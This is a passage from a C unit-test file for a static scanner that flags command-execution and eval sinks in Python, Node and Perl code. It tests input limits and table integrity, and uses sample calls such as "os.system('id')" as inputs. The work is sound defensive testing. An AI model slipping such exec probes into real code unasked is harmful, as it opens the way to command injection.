					"\\\\\\\\\\\\\\\")\\\\\\\")\\\")\")";
	static const char nul[] = "import os; os.system('a\0b')";
	char *big;
	size_t n;
	unsigned f;

	f = scan(CODE_PYTHON, nul, sizeof(nul) - 1);
	ok(f == EX && got_n == 3 && memcmp(got, "a\0b", 3) == 0,
	   "a NUL byte inside a string is kept (flags %#x, %zu bytes)", f,
	   got_n);

	n = (1u << 20) + 1;
	big = malloc(n);
	if (!big) {
		skip(4, "out of memory");
		return;
	}
	memset(big, ' ', n);
	f = scan(CODE_PYTHON, big, n);
	ok(f == UN && calls == 0, "input over 1 MiB is unreadable (%#x)", f);

	/* 1 MiB of calls: finishes, hands every one back. */
	n = 1u << 20;
	for (size_t i = 0; i + 16 <= n; i += 16)
		memcpy(big + i, "os.system('ls')\n", 16);
	f = scan(CODE_PYTHON, big, n);
	ok(f == EX && calls == (int)(n / 16), "1 MiB of calls: %d handed back",
	   calls);

	/* 70 nested brackets */
	memset(big, '(', 70);
	f = scan(CODE_NODE, big, 70);
	ok(f & UN, "brackets nested over 64 are unreadable (%#x)", f);

	/* 70 nested template interpolations */
	n = 0;
	for (int i = 0; i < 70; i++) {
		memcpy(big + n, "`${", 3);
		n += 3;
	}
	f = scan(CODE_NODE, big, n);
	ok(f & UN, "interpolations nested over 64 are unreadable (%#x)", f);
	free(big);

	f = codescan_scan(CODE_PYTHON, "import os; os.system('id')", 26, NULL,
		      NULL);
	is_int(f, EX, "a NULL callback is allowed");
	f = codescan_scan(CODE_PERL, NULL, 0, collect, NULL);
	is_int(f, 0, "empty code has no flags");
	f = scan(CODE_PYTHON, deep_eval, sizeof(deep_eval) - 1);
	ok(f & (EV | UN), "eval nested past the limit is flagged (%#x)", f);
}

static void packed_tables(void)
{
	size_t bad = 0, off = 0;

	ok(pool_framed(codesinks_pool, codesinks_pool_size) &&
		   !codesinks_str(0),
	   "the pool starts and ends with a NUL; offset 0 is NULL");
	is_int((long long)codesinks_nsink, (long long)codesinks_sink_src_count,
	       "the sink table has codesinks_table.c's rows");
	for (size_t i = 0; i < codesinks_nsink && i < codesinks_sink_src_count;
	     i++) {
		const struct sink *k = &codesinks_sink_tab[i];
		const struct sink_src *w = &codesinks_sink_src[i];
		bad += !pool_same(pool_at(codesinks_pool, codesinks_pool_size,
					  k->mod, &off),
				  w->mod) ||
		       !pool_same(pool_at(codesinks_pool, codesinks_pool_size,
					  k->names, &off),
				  w->names) ||
		       k->langs != w->langs || k->kind != w->kind ||
		       k->shape != w->shape || k->hint != w->hint;
	}
	is_int((long long)codesinks_nmod, (long long)codesinks_mod_src_count,
	       "the module table has codesinks_table.c's rows");
	for (size_t i = 0; i < codesinks_nmod && i < codesinks_mod_src_count;
	     i++) {
		const struct modname *m = &codesinks_mod_tab[i];
		const struct modname_src *w = &codesinks_mod_src[i];
		bad += !pool_same(pool_at(codesinks_pool, codesinks_pool_size,
					  m->names, &off),
				  w->names) ||
		       !pool_same(pool_at(codesinks_pool, codesinks_pool_size,
					  m->canon, &off),
				  w->canon) ||
		       m->langs != w->langs;
	}
	is_int((long long)off, 0, "every offset is a string of the pool");
	is_int((long long)bad, 0,
	       "every row of both tables says what codesinks_table.c says");
}

int main(void)
{
	tap_no_plan();
	packed_tables();
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		check_row(&rows[i]);
	check_limits();
	return tap_done();
}
